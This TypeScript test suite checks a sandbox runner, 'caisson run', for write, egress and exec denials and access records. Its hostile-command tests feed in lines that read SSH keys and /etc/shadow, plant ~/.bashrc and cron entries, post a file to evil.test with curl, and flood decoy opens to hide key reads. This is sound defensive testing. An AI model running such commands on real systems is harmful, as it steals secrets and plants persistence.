/** `caisson run` and its access record, over real sandboxes: what is not allowed is stopped and named, and nothing of it happened. */
import { spawn } from "node:child_process"
import { once } from "node:events"
import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs"
import { createServer, type Server } from "node:http"
import type { AddressInfo } from "node:net"
import { homedir } from "node:os"
import { join } from "node:path"
import { Ajv2020 } from "ajv/dist/2020.js"
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest"
import type { Envelope, RunOptions, RunRequest } from "../../src/host/index.ts"
import { caisson, type Ended, launcher } from "../cli/run-caisson.ts"
import { removeFolder } from "../support/remove-folder.ts"
import { digestOfFolder, openWorld, type World } from "./host-world.ts"

let world: World
let web: Server

beforeAll(async () => {
  web = createServer((_request, response) => response.end("hello from afar\n"))
  web.listen(0, "127.0.0.1")
  await once(web, "listening")
  const { port } = web.address() as AddressInfo
  world = await openWorld(`egress: { services: { "far.test": "127.0.0.1:${port}" } }\n`)
})
afterAll(async () => {
  await world[Symbol.asyncDispose]()
  web.close()
})

let count = 0
let workspace = ""
beforeEach(() => {
  count += 1
  workspace = join(world.folder, `w${count}`)
  mkdirSync(workspace)
  writeFileSync(join(workspace, "a.txt"), "one\ntwo\n")
})

const run = (command: readonly string[], more: Partial<RunRequest> = {}, options: RunOptions = {}): Promise<Envelope> =>
  world.host.run({ command, workspace, ...more }, { approved: true, ...options })
const sh = (script: string, more: Partial<RunRequest> = {}, options: RunOptions = {}): Promise<Envelope> =>
  run(["sh", "-c", script], more, options)
const codeOf = (envelope: Envelope): string => (envelope.ok ? "ok" : envelope.error.code)

describe("a command", () => {
  it("has its output and its exit code in the envelope, which fits the schema", async () => {
    const good = await run(["cat", "a.txt"])
    expect(good).toMatchObject({ ok: true, value: { exit_code: 0, stdout: "one\ntwo\n" }, effects: [] })
    const bad = await sh("echo why >&2; exit 7")
    expect(bad).toMatchObject({
      ok: false,
      error: { code: "upstream_error", details: { exit_code: 7, stderr: "why\n" }, retryable: false },
    })
    const schema = JSON.parse(readFileSync(new URL("../../schemas/envelope.schema.json", import.meta.url), "utf8"))
    const fits = new Ajv2020({ strict: false, validateFormats: false }).compile(schema as object)
    for (const envelope of [good, bad]) expect(fits(envelope), JSON.stringify(fits.errors)).toBe(true)
  })

  it("commits what it may write and failed commands change nothing, whatever was said beforehand", async () => {
    const before = digestOfFolder(workspace)
    expect(codeOf(await sh("echo x > out/b", { write: ["out/**"] }))).toBe("upstream_error")
    expect(codeOf(await sh("echo new > b; exit 1", { write: ["b"] }))).toBe("upstream_error")
    expect(codeOf(await sh("echo new > b", { write: ["b"], plan: true }))).toBe("ok")
    expect(digestOfFolder(workspace)).toBe(before)
    const made = await sh("mkdir -p out/deep; echo x > out/deep/b", { write: ["out/**"], exec: ["mkdir"] })
    expect(made.effects.map(({ path, committed }) => [path, committed])).toEqual([
      ["out", true],
      ["out/deep", true],
      ["out/deep/b", true],
    ])
    expect(readFileSync(join(workspace, "out/deep/b"), "utf8")).toBe("x\n")
  })

  it("is refused whole where it wrote what nobody allowed, with the flag that would", async () => {
    const before = digestOfFolder(workspace)
    const envelope = await sh("echo x > allowed; echo y > 'not this'", { write: ["allowed"] })
    expect(envelope).toMatchObject({
      ok: false,
      error: { code: "undeclared_write", hint: "if it may write that, run it again with --write 'not this'" },
    })
    expect(digestOfFolder(workspace)).toBe(before)
  })

  it("writes by a wildcard nothing that other programs run", async () => {
    const before = digestOfFolder(workspace)
    const envelope = await sh("mkdir -p .git/hooks; echo x > .git/hooks/pre-commit; echo x > .bashrc", {
      write: ["**"],
      exec: ["mkdir"],
    })
    expect(codeOf(envelope)).toBe("undeclared_write")
    expect(digestOfFolder(workspace)).toBe(before)
  })

  it("reaches an allowed host and no other, which the failure names first", async () => {
    const [there, elsewhere] = ["http://far.test/", "http://other.test/"]
    const reached = await run(["curl", "-sS", there], { allow: ["far.test:80"] })
    expect(reached).toMatchObject({ ok: true, value: { stdout: "hello from afar\n" } })
    const [host] = reached.access?.hosts ?? []
    expect(host).toMatchObject({ target: "far.test:80", verdict: "allowed", count: 1 })
    // The answer has a head of its own, and the request a line and a Host at least.
    expect(host?.bytes_in).toBeGreaterThan("hello from afar\n".length)
    expect(host?.bytes_out).toBeGreaterThan("GET / HTTP/1.1 Host: far.test".length)
    const stopped = await run(["curl", "-sSf", elsewhere], { allow: ["far.test:80"] })
    expect(stopped.ok).toBe(false)
    if (stopped.ok) return
    expect(stopped.error.message).toMatch(/^other\.test:80 is not in the driver's egress/)
    expect(stopped.denied[0]).toMatchObject({
      layer: "egress",
      target: "other.test:80",
      hint: "if it may reach that host, run it again with --allow other.test:80",
    })
  })

  it("starts a script of the workspace by its interpreter, and no program that lies there", async () => {
    writeFileSync(join(workspace, "s.sh"), '#!/bin/sh\necho "got $1"\n', { mode: 0o755 })
    expect(await run(["./s.sh", "this"])).toMatchObject({ value: { stdout: "got this\n" } })
    writeFileSync(join(workspace, "elf"), readFileSync("/bin/true"), { mode: 0o755 })
    expect(codeOf(await run(["./elf"]))).toBe("not_found")
  })

  it.each([
    ["./a.txt", "it is not executable"],
    ["./nothing", "there is no file"],
    ["/etc", "no file that can be run"],
  ])("that is no program is told as what it is: %s", async (word, why) => {
    const envelope = await run([word])
    expect(envelope).toMatchObject({ ok: false, error: { code: "not_found", message: expect.stringContaining(why) } })
  })

  it.each([
    [{ command: [] }, "input_invalid", "command"],
    [{ write: ["/etc/passwd"] }, "input_invalid", "write"],
    [{ write: ["../x"] }, "input_invalid", "write"],
    [{ write: ["~/x"] }, "input_invalid", "write"],
    [{ allow: ["*"] }, "input_invalid", "allow"],
    [{ allow: ["HTTP://x"] }, "input_invalid", "allow"],
    [{ exec: ["a/b"] }, "input_invalid", "exec"],
    [{ exec: ["no-such-program"] }, "not_found", "exec"],
    [{ command: ["no-such-program"] }, "not_found", "command"],
    [{ wriet: ["x"] } as object, "input_invalid", "wriet"],
  ] as const)("that cannot be meant is refused with a receipt and a way on: %j", async (more, code, field) => {
    const envelope = await run(["true"], more as Partial<RunRequest>)
    expect(envelope).toMatchObject({ ok: false, error: { code, details: { field } } })
    expect(envelope.receipt).toMatch(/^sha256:/)
    expect(envelope.ok ? "" : envelope.error.hint).not.toBe("")
  })

  it("is nobody else's to run, and no tool that can be called", async () => {
    const caller = { tenant: "other", user: "bob", actor: "bob", how: "token", roles: [], workspaces: "any" } as const
    const barred = await run(["true"], {}, { caller: { ...caller, mayApprove: false } as never })
    expect(codeOf(barred)).toBe("unauthorised")
    expect(codeOf(await world.call("caisson:run", { command: ["true"] }))).toBe("not_found")
  })

  it("shows the changes of what it did before they are kept, deletions first", async () => {
    const heard: string[] = []
    const options: RunOptions = {
      approved: false,
      approve: async ({ changes }) => {
        heard.push(...changes.map(({ kind, path, diff }) => `${kind} ${path} ${diff ?? ""}`))
        return true
      },
    }
    const envelope = await sh("echo three >> a.txt; echo n > b; rm old", { write: ["*"], exec: ["rm"] }, options)
    expect(codeOf(envelope)).toBe("ok")
    expect(heard).toEqual(["modify a.txt @@ -1,2 +1,3 @@\n one\n two\n+three", "create b @@ -0,0 +1,1 @@\n+n"])
    heard.length = 0
    await sh("rm b; echo z > 0", { write: ["*"], exec: ["rm"] }, options)
    expect(heard).toEqual(["delete b @@ -1,1 +0,0 @@\n-n", "create 0 @@ -0,0 +1,1 @@\n+z"])
  })
})

describe("a hostile command", () => {
  it("has everything that it tried named, and nothing of it happened", async () => {
    // Keys of this very user, and a file that another program left in /tmp.
    const keys = mkdtempSync(join(homedir(), ".caisson-run-test-"))
    const planted = join(world.folder, "planted")
    try {
      writeFileSync(join(keys, "id"), "KEY")
      writeFileSync(planted, "SECRET")
      const before = digestOfFolder(workspace)
      const envelope = await sh(
        [
          `cat ${keys}/id ${planted} ~/.ssh/id_rsa /etc/shadow`,
          "echo evil >> ~/.bashrc",
          "echo evil > /etc/cron.d/evil",
          `echo evil > ${keys}/rc`,
          "curl http://evil.test/ -d @a.txt",
          "perl -e 1; echo evil > a.txt",
        ].join("; "),
        { exec: ["cat"] },
      )
      expect(codeOf(envelope)).toBe("undeclared_write")
      const named = envelope.denied.map(({ layer, reason, target }) => `${layer} ${reason} ${target}`)
      for (const row of [
        `fs not_shown ${keys}/id`,
        `fs not_shown ${planted}`,
        "fs not_shown ~/.ssh/id_rsa",
        "fs not_shown /etc/shadow",
        "fs own_home ~/.bashrc",
        "fs read_only /etc/cron.d/evil",
        `fs read_only ${keys}/rc`,
      ])
        expect(named).toContain(row)
      expect(named.some((row) => /^exec not_listed .*\/curl$/.test(row))).toBe(true)
      expect(named.some((row) => /^exec not_listed .*\/perl$/.test(row))).toBe(true)
      for (const { message, hint } of envelope.denied) expect([message, hint]).not.toContain("")
      expect(digestOfFolder(workspace)).toBe(before)
      expect(existsSync(join(keys, "rc"))).toBe(false)
      expect(existsSync("/etc/cron.d/evil")).toBe(false)
      expect(JSON.stringify(envelope)).not.toMatch(/KEY|SECRET/)
    } finally {
      removeFolder(keys)
    }
  })

  it("has what it tried without opening a file named too", async () => {
    const script = [
      "import os, socket",
      "def tried(ask):",
      "  try: ask()",
      "  except OSError: pass",
      "tried(lambda: os.mkfifo('/etc/fifo'))",
      "tried(lambda: os.utime('/etc/hosts', (0, 0)))",
      "tried(lambda: os.chown('/etc/group', 0, 0))",
      "tried(lambda: os.setxattr('/etc/hostname', 'user.x', b'1'))",
      "tried(lambda: socket.socket(socket.AF_UNIX).connect('/var/run/docker.sock'))",
      "tried(lambda: socket.socket(socket.AF_INET).connect(('127.0.0.1', 9)))",
      "tried(lambda: socket.socket(socket.AF_UNIX).connect('\\0abstract'))",
    ].join("\n")
    const { denied } = await run(["python3", "-c", script])
    const named = denied.map(({ layer, reason, target }) => `${layer} ${reason} ${target}`)
    for (const path of ["/etc/fifo", "/etc/hosts", "/etc/group", "/etc/hostname"])
      expect(named).toContain(`fs read_only ${path}`)
    expect(named).toContain("fs not_shown /var/run/docker.sock")
  })

  it("hides no key that it asks for behind more than can be told one by one", async () => {
    const script = [
      "import os",
      "def tried(path):",
      "  try: os.open(path, os.O_RDONLY)",
      "  except OSError: pass",
      "for at in range(21000): tried('/srv/decoy-%d/%d' % (at % 7000, at))",
      "tried(os.path.expanduser('~/.ssh/id_rsa'))",
      "tried('/etc/shadow')",
    ].join("\n")
    const { denied, access } = await run(["python3", "-c", script])
    const named = denied.map(({ reason, target }) => `${reason} ${target}`)
    expect(named).toEqual(
      expect.arrayContaining(["not_shown ~/.ssh/id_rsa", "not_shown /etc/shadow", "not_shown /srv"]),
    )
    expect(access?.lost).toBeGreaterThan(20_000)
  })

  it("is named no denied file where nothing is observed", async () => {
    const envelope = await sh("cat /etc/shadow", { exec: ["cat"], observe: false })
    expect(envelope.access).toBeUndefined()
    expect(envelope.denied).toEqual([])
  })

  it("that hides from the view what it may read is told what was hidden", async () => {
    writeFileSync(join(workspace, "b.txt"), "hidden\n")
    const envelope = await run(["cat", "a.txt", "b.txt"], { read: ["a.txt"] })
    expect(envelope.denied).toMatchObject([{ layer: "fs", reason: "hidden", target: "b.txt" }])
    expect(envelope.ok ? "" : envelope.error.message).toMatch(/^b\.txt of the workspace was to be read/)
  })
})

describe("an access record", () => {
  it("tells what was read, written and started, and folders where there were many files", async () => {
    mkdirSync(join(workspace, "many"))
    for (let at = 0; at < 40; at += 1) writeFileSync(join(workspace, "many", `f${at}`), "12345")
    const envelope = await sh("cat a.txt many/* > out; ls -d nowhere", { write: ["out"], exec: ["cat", "ls"] })
    const { access } = envelope
    expect(access?.means).toBe("seccomp")
    expect(access?.reads).toContainEqual({ path: "a.txt", where: "workspace", verdict: "allowed", count: 1, bytes: 8 })
    expect(access?.reads).toContainEqual(
      expect.objectContaining({ path: "many", folder: true, bytes: 200, verdict: "allowed" }),
    )
    expect(access?.writes).toContainEqual({ path: "out", where: "workspace", verdict: "allowed", count: 1 })
    const started = access?.programs.filter(({ verdict }) => verdict === "allowed").map(({ name }) => name)
    expect(started).toEqual(expect.arrayContaining(["sh", "cat", "ls"]))
    const [receipt] = await world.host.receipts({ call: envelope.call }).then((told) => (told.ok ? told.receipts : []))
    expect(receipt?.metadata).toMatchObject({
      observed: { means: "seccomp", programs: expect.arrayContaining(["cat"]) },
    })
  })

  it("is there of any call that asks for it, and not of others", async () => {
    const plain = await world.call("files.list", {})
    const asked = await world.call("files.list", {}, { observe: true, driver: "ripgrep" })
    expect(plain.access).toBeUndefined()
    expect(asked.access?.programs).toContainEqual(expect.objectContaining({ name: "rg", verdict: "allowed" }))
  })

  it("holds up nothing that runs in threads, is killed, or asks with paths that are no paths", async () => {
    const script = [
      "import ctypes, threading, os, signal",
      "libc = ctypes.CDLL(None)",
      "def ask():",
      "  for at in range(200):",
      "    libc.open(ctypes.c_void_p(1), 0)",
      "    libc.open(b'x' * 5000, 0)",
      "    libc.openat(12345, b'nowhere', 0)",
      "threads = [threading.Thread(target=ask) for _ in range(8)]",
      "[thread.start() for thread in threads]",
      "[thread.join() for thread in threads]",
      "if os.fork() == 0: os.kill(os.getpid(), signal.SIGKILL)",
      "os.wait()",
      "print('done')",
    ].join("\n")
    expect(await run(["python3", "-c", script])).toMatchObject({ ok: true, value: { stdout: "done\n" } })
  })
})

describe("the command line", () => {
  const env = (): Record<string, string> => ({ CAISSON_DATA: join(world.folder, "cli"), LANG: "C.UTF-8" })
  const cli = (args: readonly string[], input?: string): Promise<Ended> =>
    caisson(["run", ...args], { cwd: workspace, env: env(), ...(input === undefined ? {} : { input }) })

  it("passes the streams and the exit code on", async () => {
    const ended = await cli(["--exec", "cat", "--", "sh", "-c", "cat; echo aside >&2; exit 3"], "typed\n")
    expect(ended).toMatchObject({ code: 3, stdout: "typed\n" })
    expect(ended.stderr).toMatch(/^aside\n/)
    expect((await cli(["sh", "-c", "kill -9 $$"])).code).toBe(137)
  })

  it("holds what nobody said yes to, and approving commits exactly that", async () => {
    const ended = await cli(["--write", "b", "sh", "-c", "echo held > b"])
    expect(ended.code).toBe(4)
    expect(ended.stderr).toContain("+held")
    expect(existsSync(join(workspace, "b"))).toBe(false)
    const id = /approvals show (\w+)/.exec(ended.stderr)?.[1] ?? ""
    const approved = await caisson(["approvals", "approve", id], { cwd: workspace, env: env() })
    expect(approved.code).toBe(0)
    expect(readFileSync(join(workspace, "b"), "utf8")).toBe("held\n")
  })

  it("refuses what contradicts itself or is not known, and says what to do", async () => {
    for (const [args, said] of [
      [[], "write it after `--`"],
      [["--plan", "--yes", "true"], "cannot be used with"],
      [["--frob", "--", "true"], "unknown option '--frob'"],
      [["--allow", "*", "--", "true"], "name the hosts"],
    ] as const) {
      const ended = await cli(args)
      expect(ended.code).toBe(2)
      expect(ended.stderr).toContain(said)
    }
  })

  it("has a terminal for the command where it has one, and asks before anything is kept", async () => {
    const command = [process.execPath, launcher, "run", "--write", "b", "--exec", "stty", "--", "bash", "--norc"]
    const shell = spawn("script", ["-qefc", command.map((word) => `'${word}'`).join(" "), "/dev/null"], {
      cwd: workspace,
      env: { ...process.env, ...env(), TERM: "xterm", NO_COLOR: "1" },
      stdio: ["pipe", "pipe", "inherit"],
    })
    let seen = ""
    shell.stdout.setEncoding("utf8").on("data", (text: string) => (seen += text))
    const signal = AbortSignal.timeout(100_000)
    signal.addEventListener("abort", () => shell.kill("SIGKILL"))
    const shows = async (text: string): Promise<void> => {
      while (!seen.includes(text)) await once(shell.stdout, "data", { signal })
      seen = seen.slice(seen.indexOf(text) + text.length)
    }
    await shows("$ ")
    shell.stdin.write("stty size > b; [ -t 0 ] && [ -t 1 ] && echo is-a-${TERM}; printf '\\033]0;title\\007after'\n")
    await shows("is-a-xterm")
    await shows("after")
    shell.stdin.write("exit 5\n")
    await shows("Keep these changes?")
    shell.stdin.write("y\n")
    const [code] = (await once(shell, "exit")) as [number]
    expect(code).toBe(5)
    expect(readFileSync(join(workspace, "b"), "utf8")).toMatch(/^\d+ \d+\n$/)
  })
})
